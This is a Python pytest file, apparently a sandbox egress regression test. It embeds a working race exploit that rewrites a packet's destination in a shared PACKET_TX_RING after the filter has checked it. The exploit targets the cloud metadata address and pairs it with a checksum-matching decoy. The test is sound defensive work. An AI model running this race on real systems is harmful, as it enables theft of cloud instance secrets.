# SPDX-License-Identifier: MIT
"""C13: frames that change while they are on their way. Who may have a packet socket (root inside,
network-admin = yes) can share the memory of what it sends with the kernel, PACKET_TX_RING: what the
program at the wire has checked must be what the host goes by.
"""

import json

import pytest

import frames
import nat
import topology
from capture import Capture
from logins import ROOT, second_channel, staying

ADMIN_ROOT = pytest.mark.parametrize('boxed', [ROOT], indirect=True)
# Words whose sum is that of 169.254.169.254: both have the same checksum.
GOOD4 = '203.0.136.252'
SECONDS = 2

# A second process writes now the one, now the other destination into the frame that is sent.
RACE = '''
import json, mmap, os, signal, socket, struct, sys, time
words = json.loads(sys.argv[1])
PACKET, AT, RING, HAS_OFFSET = 263, 48, 13, 19
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.setsockopt(PACKET, HAS_OFFSET, 1)
link.setsockopt(PACKET, RING, struct.pack('4I', 4096, 1, 4096, 1))
link.bind(('eth0', 0x0800))
mac = link.getsockname()[4]
ring = mmap.mmap(link.fileno(), 4096)
def send(data):
    ring[AT:AT + len(data)] = data
    ring[8:28] = struct.pack('IIHHII', len(data), 0, AT, 0, 0, 0)
    ring[0:8] = struct.pack('Q', 1)
    link.send(b'')
def frame(target, name):
    return mac + mac + b'\\x08\\0' + ipv4(words['own'], target, udp(name))
send(frame(words['internet'], 'control'))
data = frame(words['good'], 'race')
good, evil = pack4(words['good']), pack4(words['evil'])
place = slice(AT + 30, AT + 34)
writer = os.fork()
if not writer:
    while True:
        ring[place] = evil
        ring[place] = good
end, sent = time.monotonic() + words['seconds'], 0
while time.monotonic() < end:
    send(data)
    sent += 1
os.kill(writer, signal.SIGKILL)
os.waitpid(writer, 0)
print(sent)
'''


@ADMIN_ROOT
def test_changed_on_the_way(around, boxed):
    """A destination that egress allows when it is checked, and then is the cloud's secrets."""
    nat.policy(boxed, 'network-admin = yes')
    with open(frames.__file__, encoding='utf-8') as file:
        code = file.read() + RACE
    with staying(boxed) as login:
        words = {'own': nat.addresses(boxed, login)[0], 'internet': topology.INTERNET4,
                 'good': GOOD4, 'evil': topology.METADATA[0], 'seconds': SECONDS}
        with Capture(around.internet) as internet, Capture(around.metadata) as metadata:
            done = second_channel(boxed, login, f"/usr/bin/python3 - '{json.dumps(words)}'",
                                  input=code)
            assert done.returncode == 0 and int(done.stdout) > 1000, done
            internet.wait_for(frames.token('control'))
            came = len(metadata.settle().having(frames.token('race')))
            assert len(internet.having(frames.token('race'))) > 100, 'the control'
    assert not came, f'{came} of {done.stdout}'
